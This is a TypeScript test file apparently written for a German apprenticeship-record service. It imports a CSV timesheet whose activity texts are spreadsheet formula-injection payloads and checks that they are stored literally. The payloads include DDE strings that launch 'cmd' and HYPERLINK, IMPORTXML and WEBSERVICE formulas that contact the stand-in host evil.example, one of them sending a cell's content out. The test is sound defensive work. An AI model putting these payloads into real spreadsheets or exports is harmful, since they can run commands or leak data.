import { readFileSync } from 'node:fs'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type ChildGateway, startChildGateway } from './child-gateway.ts'
import { multipart } from './multipart.ts'

const examples = fileURLToPath(new URL('../../../../examples/csv-stundenbuch', import.meta.url))
let gateway: ChildGateway
beforeAll(async () => {
  gateway = await startChildGateway({ ADAPTERS: '@berichtsheft/adapter-generic' })
})
afterAll(() => gateway?.close())

/** Texts that a spreadsheet would run. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  ' =1+1',
  "'=1+1",
  '＝1+1',
  '=1+1\n=2+2',
  '%0A=1+1',
  '|calc',
  '!A1',
  '{=1+1}',
]

test('B09: formulas in a CSV file are texts and stay what they are', { timeout: 60_000 }, async () => {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
  const days = formulas.map((text, i) => {
    const day = new Date(Date.UTC(2026, 2, 2 + 7 * i)).toISOString().slice(0, 10).split('-').reverse().join('.')
    return `${day};${10 + i};07:30;16:00;45;Betrieb;${quoted(text)};offen;;`
  })
  const csv = `# Stundenbuch, Stand 11.01.2027\nDatum;KW;Beginn;Ende;Pause;Lernort;Tätigkeit;Stand;geprüft am;geprüft von\n${days.join('\n')}\n`
  const answer = await gateway.send({
    path: '/v1/importe?adapter=generic&konfiguration=csv-stundenbuch',
    ...multipart([
      { name: 'kontext', content: readFileSync(path.join(examples, 'kontext.json')) },
      { name: 'datei', filename: 'Stundenbuch_4711_Kowalczyk_Aylin.csv', content: csv },
    ]),
  })
  expect(answer.status, answer.text).toBe(200)
  expect(JSON.parse(answer.text).lieferungen).toMatchObject([{ abgelehnt: 0 }])
  const list = JSON.parse((await gateway.send({ path: '/v1/ausbildungsnachweise?limit=200' })).text)
  const stored = list.eintraege.flatMap((entry: { inhalt: { tage: { eintraege: { text: string }[] }[] } }) =>
    entry.inhalt.tage.flatMap(({ eintraege }) => eintraege.map(({ text }) => text)),
  )
  expect(stored.length).toBeGreaterThan(0)
  // A vendor's file may be trimmed, but nothing is put before a text and nothing is worked out.
  for (const text of formulas) expect(stored.map((one: string) => one.trim())).toContain(text.trim())
  expect(stored).not.toContain('2')
})
